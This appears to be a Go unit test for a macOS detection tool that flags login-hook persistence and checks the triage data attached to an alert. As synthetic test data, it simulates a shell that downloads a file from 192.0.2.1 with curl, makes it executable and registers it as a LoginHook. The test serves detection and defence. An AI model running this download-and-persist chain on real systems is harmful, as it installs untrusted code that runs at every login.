package agent

import (
	"strings"
	"testing"
	"time"

	"hooksnare/agent/document"
	"hooksnare/agent/judge"
	"hooksnare/agent/offline"
	"hooksnare/collector/eslogger/synthetic"
	"hooksnare/pkg/alert"
)

// TestTriage has a hook set from a shell: what else was run from it, and what is known of
// the program.
func TestTriage(t *testing.T) {
	var host *synthetic.Host
	f := newFeed(t, func(o *judge.Options) {
		o.Watching = &judge.Watching{
			Window: time.Minute, Watched: func(string) bool { return false }, Wake: func() {},
		}
		o.Examine = offline.AtOnce(func(q judge.Question) *document.Examination {
			shown := &alert.Program{Path: q.Values[0], Exists: true, SHA256: "ab12", Modified: alert.At(host.Now().Add(-time.Hour))}
			return &document.Examination{
				Programs: map[string]document.ExaminedProgram{q.Values[0]: {Shown: shown}}, Known: map[string]string{"ab12": "good"},
			}
		})
	})
	host = f.Host
	f.Daemon("com.example.other", synthetic.AsUser, synthetic.Spec{Path: "/usr/bin/true", Args: []string{"true", "elsewhere"}})
	shell := f.Shell()
	f.Run(shell, synthetic.Spec{Path: "/usr/bin/curl", Args: []string{"curl", "-o", "/tmp/x", "http://192.0.2.1/x"}})
	f.Run(shell, synthetic.Spec{Path: "/bin/chmod", Args: []string{"chmod", "+x", "/tmp/x"}})
	f.Run(shell, synthetic.Spec{Path: "/usr/bin/defaults", Args: []string{"defaults", "write", "com.apple.loginwindow", "LoginHook", "/tmp/x"}})
	a := f.last()
	got := a.Hooksnare.Triage
	if got == nil || got.KnownGood != "good" || got.ProgramAge == nil || *got.ProgramAge < 3500 || *got.ProgramAge > 3700 {
		t.Fatalf("got %+v, want an hour's age and the exception good", got)
	}
	var tree []string
	for _, c := range got.Tree {
		tree = append(tree, c.CommandLine)
	}
	all := strings.Join(tree, "; ")
	if !strings.Contains(all, "curl -o /tmp/x http://192.0.2.1/x; chmod +x /tmp/x") || strings.Contains(all, "elsewhere") || strings.Contains(all, "LoginHook") {
		t.Errorf("the same tree: got %q, want curl and chmod, and nothing of another job", all)
	}
}
